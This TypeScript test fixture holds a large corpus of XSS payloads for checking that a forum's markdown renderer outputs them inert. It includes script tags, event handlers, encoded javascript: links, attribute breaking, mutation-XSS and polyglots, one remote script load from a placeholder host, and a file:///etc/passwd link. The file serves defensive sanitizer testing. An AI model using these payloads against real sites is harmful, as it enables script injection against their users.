/**
 * Known XSS payloads for forum posts, as data: markdown tricks, raw HTML, entity- and
 * percent-encoded schemes, attribute breaking, SVG/MathML, mutation XSS and polyglots.
 *
 * Every payload must render inert (`markdown.test.ts`), with images on and off. A browser test
 * can reuse the corpus by rendering each entry into a page and watching for `alert`/`confirm`
 * calls, navigation and network requests. Payloads call `alert(1)` (or `confirm`) so one stub
 * catches them all.
 *
 * Sources: OWASP's XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet, the
 * markdown-it and CommonMark issue trackers, and known mutation-XSS reports against sanitizers.
 */

export interface XssPayload {
  /** Stable and unique, for test names. */
  name: string
  /** The post body as a member would submit it. */
  markdown: string
}

/** Post id shaped like ours (`pst_` + 24 base32), for quote payloads. */
const POST = 'pst_abcdefghijklmnopqrstuvwx'

export const xssCorpus: readonly XssPayload[] = [
  // Raw HTML: markdown-it has `html: false`, so all of these must come out as text.
  { name: 'script tag', markdown: '<script>alert(1)</script>' },
  { name: 'script src, upper case', markdown: '<SCRIPT SRC=//xss.example/x.js></SCRIPT>' },
  { name: 'img onerror', markdown: '<img src=x onerror=alert(1)>' },
  { name: 'img javascript src', markdown: "<IMG SRC=javascript:alert('XSS')>" },
  { name: 'img with backtick attribute', markdown: '<img src=`x` onerror=alert(1)>' },
  { name: 'img quote confusion', markdown: '<img """><script>alert(1)</script>">' },
  { name: 'svg onload', markdown: '<svg onload=alert(1)>' },
  { name: 'svg slash onload', markdown: '<svg/onload=alert(1)>' },
  { name: 'svg script', markdown: '<svg><script>alert(1)</script></svg>' },
  {
    name: 'svg animate href',
    markdown:
      '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>',
  },
  {
    name: 'math mxss',
    markdown:
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  },
  { name: 'math href', markdown: '<math href="javascript:alert(1)">click</math>' },
  { name: 'iframe javascript', markdown: '<iframe src="javascript:alert(1)"></iframe>' },
  {
    name: 'iframe srcdoc',
    markdown: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  },
  { name: 'object data', markdown: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed src', markdown: '<embed src="data:text/html,<script>alert(1)</script>">' },
  { name: 'body onload', markdown: '<body onload=alert(1)>' },
  { name: 'details ontoggle', markdown: '<details open ontoggle=alert(1)>' },
  { name: 'input autofocus', markdown: '<input autofocus onfocus=alert(1)>' },
  {
    name: 'form action',
    markdown: '<form action="javascript:alert(1)"><button>go</button></form>',
  },
  { name: 'anchor javascript', markdown: '<a href="javascript:alert(1)">x</a>' },
  { name: 'anchor tab in scheme', markdown: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'base href', markdown: '<base href="javascript:alert(1)//">' },
  {
    name: 'meta refresh',
    markdown: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  },
  { name: 'link stylesheet', markdown: '<link rel=stylesheet href="javascript:alert(1)">' },
  { name: 'style import', markdown: "<style>@import 'javascript:alert(1)';</style>" },
  { name: 'css expression', markdown: '<div style="width: expression(alert(1))">x</div>' },
  { name: 'css url', markdown: '<div style="background:url(javascript:alert(1))">x</div>' },
  { name: 'unknown tag event', markdown: '<xss onafterscriptexecute=alert(1)><script>1</script>' },
  { name: 'html comment', markdown: '<!--><script>alert(1)</script>-->' },
  { name: 'comment in tag', markdown: '<!-- --!><img src=x onerror=alert(1)> -->' },
  { name: 'cdata', markdown: '<![CDATA[<script>alert(1)</script>]]>' },
  { name: 'processing instruction', markdown: '<?xml version="1.0"?><script>alert(1)</script>' },
  {
    name: 'noscript mxss',
    markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  },
  { name: 'split script', markdown: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'double angle', markdown: '<<script>script>alert(1)<</script>/script>' },
  { name: 'html block', markdown: '<div>\n<script>alert(1)</script>\n</div>' },
  { name: 'escaped html', markdown: '\\<script>alert(1)\\</script>' },
  { name: 'entity encoded tags', markdown: '&lt;script&gt;alert(1)&lt;/script&gt;' },
  { name: 'numeric entity tags', markdown: '&#60;script&#62;alert(1)&#60;/script&#62;' },

  // Markdown links with dangerous or obfuscated schemes: none may produce an href.
  { name: 'link javascript', markdown: '[x](javascript:alert(1))' },
  { name: 'link mixed case', markdown: '[x](JaVaScRiPt:alert(1))' },
  { name: 'link leading space', markdown: '[x]( javascript:alert(1))' },
  { name: 'link on next line', markdown: '[x](\njavascript:alert(1))' },
  { name: 'link angle destination', markdown: '[x](<javascript:alert(1)>)' },
  { name: 'link space in scheme', markdown: '[x](<java script:alert(1)>)' },
  { name: 'link control character', markdown: '[x](\u0001javascript:alert(1))' },
  { name: 'link entity tab', markdown: '[x](java&#x09;script:alert(1))' },
  { name: 'link named tab', markdown: '[x](java&Tab;script:alert(1))' },
  { name: 'link entity newline', markdown: '[x](java&#10;script:alert(1))' },
  { name: 'link entity colon', markdown: '[x](javascript&#58;alert(1))' },
  { name: 'link named colon', markdown: '[x](javascript&colon;alert(1))' },
  { name: 'link double-encoded colon', markdown: '[x](javascript&amp;colon;alert(1))' },
  {
    name: 'link fully entity encoded',
    markdown: '[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
  },
  { name: 'link hex entity', markdown: '[x](&#x6A;avascript:alert(1))' },
  { name: 'link padded entity', markdown: '[x](&#0000106avascript:alert(1))' },
  { name: 'link percent-encoded letter', markdown: '[x](%6Aavascript:alert(1))' },
  { name: 'link percent-encoded colon', markdown: '[x](javascript%3Aalert(1))' },
  { name: 'link double percent-encoded', markdown: '[x](javascript%253Aalert(1))' },
  { name: 'link percent-encoded newline', markdown: '[x](java%0Ascript:alert(1))' },
  { name: 'link comment continuation', markdown: '[x](javascript://%0Aalert(1))' },
  { name: 'link zero-width space', markdown: '[x](java\u200Bscript:alert(1))' },
  { name: 'link soft hyphen', markdown: '[x](java\u00ADscript:alert(1))' },
  { name: 'link byte order mark', markdown: '[x](\uFEFFjavascript:alert(1))' },
  { name: 'link fullwidth homoglyph', markdown: '[x](\uFF4Aavascript:alert(1))' },
  { name: 'link fullwidth colon', markdown: '[x](javascript\uFF1Aalert(1))' },
  { name: 'link dotless i homoglyph', markdown: '[x](javascr\u0131pt:alert(1))' },
  { name: 'link backslash escapes', markdown: '[x](javascript\\:alert(1))' },
  { name: 'link vbscript', markdown: '[x](vbscript:msgbox(1))' },
  { name: 'link livescript', markdown: '[x](livescript:alert(1))' },
  {
    name: 'link data html',
    markdown: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  },
  { name: 'link data html upper', markdown: '[x](DATA:text/html,<script>alert(1)</script>)' },
  { name: 'link data svg', markdown: '[x](data:image/svg+xml,<svg onload=alert(1)>)' },
  { name: 'link file', markdown: '[x](file:///etc/passwd)' },
  { name: 'link with title', markdown: '[x](javascript:alert(1) "title")' },

  // Attribute breaking through titles and URLs.
  { name: 'title escaped quote', markdown: '[a](http://x "\\" onmouseover=alert(1))' },
  { name: 'title escaped quotes', markdown: '[a](http://x "\\" onmouseover=\\"alert(1)")' },
  { name: 'title single quotes', markdown: '[a](http://x \'a" onmouseover="alert(1)\')' },
  { name: 'title parentheses', markdown: '[a](http://x (a" onmouseover="alert(1)))' },
  { name: 'title entity quote', markdown: '[a](http://x "&quot; onmouseover=&quot;alert(1)")' },
  { name: 'title css', markdown: '[a](http://x "style=background:url(javascript:alert(1))")' },
  { name: 'url with quote', markdown: '[a](http://x" onmouseover="alert(1))' },
  { name: 'url with single quote', markdown: "[a](http://x'onmouseover='alert(1))" },
  { name: 'url breaking tag', markdown: '[a](https://example.com/"><svg onload=alert(1)>)' },

  // Reference-style links.
  { name: 'reference javascript', markdown: '[x][1]\n\n[1]: javascript:alert(1)' },
  { name: 'reference encoded', markdown: '[x]\n\n[x]: &#106;avascript:alert(1)' },
  {
    name: 'reference title breaking',
    markdown: '[x][1]\n\n[1]: http://x "a\\" onclick=\\"alert(1)"',
  },
  { name: 'reference angle', markdown: '[x][]\n\n[x]: <javascript:alert(1)>' },

  // Autolinks and bare URLs.
  { name: 'autolink javascript', markdown: '<javascript:alert(1)>' },
  { name: 'autolink upper case', markdown: '<JAVASCRIPT:alert(1)>' },
  { name: 'autolink vbscript', markdown: '<vbscript:msgbox(1)>' },
  { name: 'autolink data', markdown: '<data:text/html,alert(1)>' },
  { name: 'autolink breaking', markdown: '<http://x/"onmouseover="alert(1)>' },
  {
    name: 'autolink percent-encoded',
    markdown: '<http://x/%22%3E%3Cscript%3Ealert(1)%3C/script%3E>',
  },
  { name: 'autolink email breaking', markdown: '<x@x.com"onclick="alert(1)>' },
  { name: 'bare javascript', markdown: 'javascript:alert(1)' },
  { name: 'bare url breaking', markdown: 'http://x.com/"><script>alert(1)</script>' },
  { name: 'bare url quote', markdown: 'http://x.com/"onmouseover="alert(1)' },

  // Nested brackets and links inside links.
  { name: 'link in link text', markdown: '[[x](javascript:alert(1))](http://ok)' },
  { name: 'link in destination', markdown: '[x]([y](javascript:alert(1)))' },
  { name: 'adjacent links', markdown: '[x](http://ok)[y](javascript:alert(1))' },
  { name: 'html in link text', markdown: '[<img src=x onerror=alert(1)>](http://x)' },
  { name: 'unbalanced brackets', markdown: '[x]](javascript:alert(1))[' },

  // Images.
  { name: 'image javascript', markdown: '![x](javascript:alert(1))' },
  { name: 'image src breaking', markdown: '![x](x" onerror="alert(1))' },
  { name: 'image src unquoted breaking', markdown: '![x](x onerror=alert(1))' },
  { name: 'image alt breaking', markdown: '![x" onerror="alert(1)](http://x/y.png)' },
  { name: 'image title breaking', markdown: '![x](http://x/y.png "a\\" onerror=\\"alert(1)")' },
  {
    name: 'image data svg',
    markdown: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  },
  { name: 'image data png', markdown: '![x](data:image/png;base64,iVBORw0KGgo=)' },
  { name: 'image entity scheme', markdown: '![x](&#106;avascript:alert(1))' },
  { name: 'image in link', markdown: '[![x](javascript:alert(1))](javascript:alert(1))' },
  { name: 'image html alt', markdown: '![<img src=x onerror=alert(1)>](http://x/y.png)' },
  { name: 'image reference', markdown: '![x][i]\n\n[i]: javascript:alert(1)' },

  // Code: content is escaped, the info string cannot add attributes.
  { name: 'inline code', markdown: '`<script>alert(1)</script>`' },
  { name: 'double backticks', markdown: '``<img src=x onerror=alert(1)>` ``' },
  { name: 'fence content', markdown: '```\n<script>alert(1)</script>\n```' },
  { name: 'fence info breaking', markdown: '```js"><script>alert(1)</script>\nx\n```' },
  { name: 'fence info onload', markdown: '```js onload=alert(1)\nx\n```' },
  { name: 'indented code', markdown: '    <script>alert(1)</script>' },

  // Other block contexts.
  { name: 'heading', markdown: '# <script>alert(1)</script>' },
  {
    name: 'table cell',
    markdown: '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |',
  },
  { name: 'table alignment', markdown: '| a |\n|:-:|\n| b |' },
  { name: 'list item', markdown: '- <svg onload=alert(1)>\n  1. [x](javascript:alert(1))' },
  { name: 'ordered list start', markdown: '123456789. <script>alert(1)</script>' },
  { name: 'blockquote', markdown: '> <iframe src=javascript:alert(1)>' },
  { name: 'emphasis wrapping', markdown: '*<script>*alert(1)*</script>*' },
  { name: 'strikethrough wrapping', markdown: '~~<img src=x~~ onerror=alert(1)>' },

  // Our own syntax: mentions and quotes carry user text into attributes we build.
  { name: 'mention breaking', markdown: '@ann"><script>alert(1)</script>' },
  { name: 'mention in tag', markdown: '<a href="@ann" onclick="alert(1)">@ann</a>' },
  { name: 'quote with html text', markdown: `> [<script>alert(1)</script>](#${POST})\n> hi` },
  { name: 'quote id breaking', markdown: `> [x](#${POST}" onclick="alert(1))\n> hi` },
  { name: 'quote javascript', markdown: '> [x](javascript:alert(1))\n> hi' },

  // Polyglots.
  {
    name: 'polyglot 0xsobky',
    markdown:
      'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  },
  {
    name: 'polyglot markdown',
    markdown:
      '[a](javascript:alert(1)) <a href=javascript:alert(1)>b</a> ![c](javascript:alert(1)) <javascript:alert(1)> `"><svg/onload=confirm(1)>`',
  },
  {
    name: 'polyglot attribute',
    markdown:
      '"><img src=x onerror=alert(1)>\'><img src=x onerror=alert(1)>`><svg onload=alert(1)>',
  },
]
